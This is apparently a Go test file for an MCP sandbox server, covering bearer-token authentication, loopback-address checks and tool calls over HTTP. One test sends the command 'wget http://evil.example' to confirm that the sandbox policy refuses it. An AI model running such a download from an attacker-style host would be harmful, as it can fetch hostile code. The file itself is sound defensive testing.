package mcp

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	sdk "github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/airlock-sandbox/airlock/policy"
)

const testToken = "0123456789abcdef-test-token"

func TestBearerAuth(t *testing.T) {
	next := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusTeapot) })
	h, err := BearerAuth(testToken, next)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name, header string
		want         int
	}{
		{"right", "Bearer " + testToken, http.StatusTeapot},
		{"scheme-case", "bearer " + testToken, http.StatusTeapot},
		{"missing", "", http.StatusUnauthorized},
		{"wrong", "Bearer 0123456789abcdef-test-tokeN", http.StatusUnauthorized},
		{"prefix", "Bearer " + testToken[:20], http.StatusUnauthorized},
		{"longer", "Bearer " + testToken + "x", http.StatusUnauthorized},
		{"basic", "Basic " + testToken, http.StatusUnauthorized},
		{"no-space", "Bearer" + testToken, http.StatusUnauthorized},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := httptest.NewRequest("POST", "/", nil)
			if tt.header != "" {
				r.Header.Set("Authorization", tt.header)
			}
			w := httptest.NewRecorder()
			h.ServeHTTP(w, r)
			if w.Code != tt.want {
				t.Errorf("Authorization %q: status %d, want %d", tt.header, w.Code, tt.want)
			}
		})
	}
}

func TestBearerAuthRefusesWeakTokens(t *testing.T) {
	for _, tok := range []string{"", "short", " " + testToken, testToken + "\n"} {
		if _, err := BearerAuth(tok, http.NotFoundHandler()); err == nil {
			t.Errorf("BearerAuth(%q) = nil error, want a refusal", tok)
		}
	}
}

func TestIsLoopback(t *testing.T) {
	tests := []struct {
		addr string
		want bool
	}{
		{"127.0.0.1:8808", true},
		{"127.1.2.3:80", true},
		{"[::1]:8808", true},
		{"localhost:8808", true},
		{":8808", false},
		{"0.0.0.0:8808", false},
		{"[::]:8808", false},
		{"10.0.0.1:8808", false},
		{"example.com:80", false},
		{"127.0.0.1", false},
	}
	for _, tt := range tests {
		if got := IsLoopback(tt.addr); got != tt.want {
			t.Errorf("IsLoopback(%q) = %v, want %v", tt.addr, got, tt.want)
		}
	}
}

// headerTransport adds a bearer token to every request.
type headerTransport struct{ token string }

func (h headerTransport) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	if h.token != "" {
		r.Header.Set("Authorization", "Bearer "+h.token)
	}
	return http.DefaultTransport.RoundTrip(r)
}

// TestHTTP serves the tools over streamable HTTP behind BearerAuth: a
// client with the token works, one without is refused before MCP.
func TestHTTP(t *testing.T) {
	p := mustPolicy(t, policy.Spec{AllowedTools: []string{"sh"}})
	fk := &fakes{}
	s := newServer(t, Config{Policy: p}, fk.new)
	h, err := BearerAuth(testToken, s.Handler())
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(h)
	defer ts.Close()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()

	connect := func(token string) (*sdk.ClientSession, error) {
		tr := &sdk.StreamableClientTransport{Endpoint: ts.URL, HTTPClient: &http.Client{Transport: headerTransport{token}}, MaxRetries: -1, DisableStandaloneSSE: true}
		return sdk.NewClient(&sdk.Implementation{Name: "airlock-test", Version: "1"}, nil).Connect(ctx, tr, nil)
	}
	if cs, err := connect("wrong-token-0123456789"); err == nil {
		cs.Close()
		t.Fatal("client with a wrong token connected")
	}
	cs, err := connect(testToken)
	if err != nil {
		t.Fatalf("client with the token: %v", err)
	}
	res, err := cs.CallTool(ctx, &sdk.CallToolParams{Name: ToolRun, Arguments: map[string]any{"command": []string{"wget", "http://evil.example"}}})
	if err != nil || !res.IsError || !strings.Contains(text(res), "wget is not in allowed_tools") {
		t.Fatalf("run over HTTP = %v, %v", res, err)
	}
	res, err = cs.CallTool(ctx, &sdk.CallToolParams{Name: ToolRun, Arguments: map[string]any{"command": []string{"sh", "-c", "true"}}})
	if err != nil || res.IsError {
		t.Fatalf("run over HTTP = %v, %v", res, err)
	}
	made := fk.all()
	if len(made) != 1 {
		t.Fatalf("one HTTP client made %d sandboxes, want 1", len(made))
	}
	// Ending the MCP session (DELETE) closes its sandbox.
	cs.Close()
	select {
	case <-made[0].done:
	case <-time.After(30 * time.Second):
		t.Fatal("the sandbox was not closed after the HTTP client ended its session")
	}
}
